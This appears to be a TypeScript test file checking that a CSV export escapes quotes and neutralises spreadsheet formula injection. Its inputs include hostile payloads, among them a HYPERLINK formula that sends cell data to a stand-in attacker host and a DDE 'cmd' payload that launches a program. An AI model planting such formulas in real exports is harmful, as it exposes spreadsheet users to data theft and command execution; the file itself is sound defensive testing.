import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { csvLines } from '../../../src/admin/csv.ts';

const fieldOf = (value: string) => csvLines(['a'], [{ a: value }])[1];

describe('lines of CSV', () => {
  test('have a header and the columns in order', () => {
    assert.deepEqual(
      csvLines(
        ['b', 'a'],
        [
          { a: '1', b: '2' },
          { a: '', b: 'x, y' },
        ],
      ),
      ['"b","a"', '"2","1"', '"x, y",""'],
    );
  });

  test('keep quotes and line ends inside a field', () => {
    assert.equal(fieldOf('say "no"\nagain'), '"say ""no""\nagain"');
  });

  for (const value of [
    '=HYPERLINK("http://evil.example/?"&A1)',
    '+1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
  ]) {
    test(`turn ${JSON.stringify(value)} into text, not into a formula`, () => {
      assert.equal(fieldOf(value), `"'${value.replaceAll('"', '""')}"`);
    });
  }

  test('leave other values as they are', () => {
    for (const value of ['99391c7e-ad88-49ec-a2ad-99ddcb1f7721', '2026-11-21T01:02:03.000Z', 'a=b', ''])
      assert.equal(fieldOf(value), `"${value}"`);
  });
});
